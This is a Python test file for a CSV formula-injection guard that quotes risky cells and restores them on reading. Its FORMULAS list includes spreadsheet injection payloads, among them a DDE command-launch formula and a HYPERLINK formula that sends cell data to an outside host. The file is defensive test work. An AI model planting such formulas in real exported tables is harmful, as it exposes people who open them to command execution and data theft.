"""No cell of a table is a formula, and what is read is what was written."""

import csv

import pandas as pd
import pytest

from asdlib.data.csv_cells import as_csv, guarded, unguarded

FORMULAS = [
    "=1+1", '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "-", "=", "--1", "-1.5e", "-1,5", "+a", "-inf", "＝1", "-1\n", "-٣", "'=1", "''@a", "-noise_07.wav"
]  # fmt: skip
HARMLESS = ["-1.5", "+2", "-.5", "1e-3", "-1E+5", "", "a=b", "speed=-3", "it's", "'quoted'", "clip.wav", "a-b", " =1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded_and_read_back(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_names_are_not_changed(text):
    assert guarded(text) == unguarded(text) == text


def test_no_part_of_a_list_is_a_formula_either():
    text = "v=1;=1+1;-2;@x=y;'-z"
    assert guarded(text) == "v=1;'=1+1;-2;'@x=y;''-z"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_guarding_twice_is_undone_by_reading_twice(text):
    assert unguarded(unguarded(guarded(guarded(text)))) == text


def test_a_table_survives_a_file_and_has_no_formula(tmp_path):
    table = pd.DataFrame({"name": [*FORMULAS, *HARMLESS], "score": [-1.5] * len(FORMULAS + HARMLESS)})
    as_csv(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as handle:
        written = list(csv.reader(handle))[1:]
    assert [row[1] for row in written] == ["-1.5"] * len(table)
    risky = [row[0] for row in written if row[0][:1] in tuple("=+-@\t\r\n＝") and row[0] not in HARMLESS]
    assert risky == []
    read = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False).map(unguarded)
    assert read["name"].tolist() == table["name"].tolist()


def test_a_plain_table_is_written_as_ever():
    table = pd.DataFrame({"name": ["a b", None, "c,d"], "score": [0.1, float("nan"), -3e-7], "n": [1, -2, 3]})
    assert as_csv(table) == table.to_csv(index=False, lineterminator="\n")
